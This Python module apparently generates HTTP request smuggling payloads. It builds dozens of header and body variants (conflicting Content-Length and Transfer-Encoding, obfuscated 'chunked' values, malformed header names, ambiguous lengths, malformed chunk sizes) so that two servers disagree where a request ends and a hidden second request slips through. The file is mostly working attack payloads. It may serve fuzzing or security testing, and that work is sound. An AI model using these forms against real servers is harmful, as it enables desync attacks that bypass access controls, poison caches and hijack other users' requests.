"""Ways to hide a request in another one: two servers could disagree where the first one ends."""

from collections.abc import Callable

Parts = tuple[list[bytes], bytes]
"""Header lines, and all that comes after them."""


def _both(coding: bytes, *, first: bool, name: bytes = b"Transfer-Encoding") -> Callable[[bytes], Parts]:
    """Content-Length covers what chunked would end before: `hidden` is in the body, or is the next request."""

    def form(hidden: bytes) -> Parts:
        rest = b"0\r\n\r\n" + hidden
        lines = [b"Content-Length: %d" % len(rest), name + coding]
        return (lines if first else lines[::-1]), rest

    return form


def _covered(coding: bytes) -> Callable[[bytes], Parts]:
    """The other way round: chunked covers what Content-Length would end before."""

    def form(hidden: bytes) -> Parts:
        chunk = b"%x\r\n" % len(hidden)
        return [b"Content-Length: %d" % len(chunk), b"Transfer-Encoding" + coding], chunk + hidden + b"\r\n0\r\n\r\n"

    return form


def _lengths(one: bytes, other: bytes | None) -> Callable[[bytes], Parts]:
    """Lengths that are read in more than one way; `%d` is the length of all that comes."""

    def form(hidden: bytes) -> Parts:
        lines = [
            b"Content-Length: " + each.replace(b"%d", b"%d" % len(hidden)) for each in (one, other) if each is not None
        ]
        return lines, hidden

    return form


def _line(line: bytes) -> Callable[[bytes], Parts]:
    """A line that hides the length from some."""
    return lambda hidden: ([line.replace(b"%d", b"%d" % len(hidden))], hidden)


def _chunk(head: bytes, tail: bytes) -> Callable[[bytes], Parts]:
    """A chunk whose size, extension or end is written so that some read on and some do not."""

    def form(hidden: bytes) -> Parts:
        return [b"Transfer-Encoding: chunked"], head.replace(b"%x", b"%x" % len(hidden)) + hidden + tail

    return form


_CODINGS = (
    b": chunked",
    b":chunked",
    b" : chunked",
    b":\tchunked",
    b": Chunked",
    b": xchunked",
    b": chunked, identity",
    b": identity, chunked",
    b": gzip, chunked",
    b": chunked;q=0.5",
    b": \x0bchunked",
    b": \x0cchunked",
    b": chunked\x0b",
    b": \xa0chunked",
    b':"chunked"',
    b": chu\0nked",
    b":\r\n chunked",
    b":\n chunked",
    b": x\r\nTransfer-Encoding: chunked",
    b": chunked\r\nTransfer-Encoding: x",
    b": chunked\nX: y",
    b": chunked\rX: y",
    b"\0: chunked",
)
_NAMES = (
    b"Transfer_Encoding",
    b" Transfer-Encoding",
    b"X: y\r\n\tTransfer-Encoding",
    b"X: y\nTransfer-Encoding",
    b"X: y\rTransfer-Encoding",
    b"transfer\xadencoding",
)
FORMS: list[Callable[[bytes], Parts]] = [
    *(_both(coding, first=first) for coding in _CODINGS for first in (True, False)),
    *(_both(b": chunked", first=True, name=name) for name in _NAMES),
    *(_covered(coding) for coding in _CODINGS),
    *(_lengths(one, other) for one, other in ((b"0", b"%d"), (b"%d", b"0"), (b"0, %d", None), (b"%d, 0", None),
    (b"+0", None), (b"-0", None),
      (b"0x0", None), (b"0 0", None), (b"0\x0b", None), (b"\x0b%d", None), (b"%d\0", None), (b"0;%d", None), (b"1e0",
      None), (b"00%d", b"0"))),
    *(_line(line) for line in (b"Content-Length : %d", b" Content-Length: %d", b"Content-Length\0: %d",
    b"Content\x00-Length: %d", b"Content-Length:\r\n %d",
      b"X: y\nContent-Length: 0\nX: z\r\nContent-Length: %d", b"X: y\rContent-Length: %d\rX: z\r\nContent-Length: 0")),
    *(_chunk(head, tail) for head, tail in (
      (b"0x%x\r\n", b"\r\n0\r\n\r\n"), (b"+%x\r\n", b"\r\n0\r\n\r\n"), (b"-0\r\n\r\n", b""), (b"0_0\r\n\r\n", b""),
      (b"%x;\n", b"\r\n0\r\n\r\n"),
      (b"%x\n", b"\n0\n\n"), (b"0;ext=\"\n\r\n\r\n", b""), (b"1\r\nAB0\r\n\r\n", b""), (b"1\r\nA\n0\r\n\r\n", b""),
      (b"1\r\nA\r0\r\n\r\n", b""),
      (b"0\r\nX:y\n\r\n", b""), (b"00000000000000000\r\n\r\x00", b""), (b"10000000000000000\r\n", b"\r\n0\r\n\r\n"),
      (b"0\r\nContent-Length: 5\r\nX", b""),
      (b"0 ;a\r\n\rX", b""), (b"%x \r\n", b"\r\n0\r\n\r\n"))),
]  # fmt: skip
"""Each is given the request to hide: whole, and one that would do something if it was taken for one."""
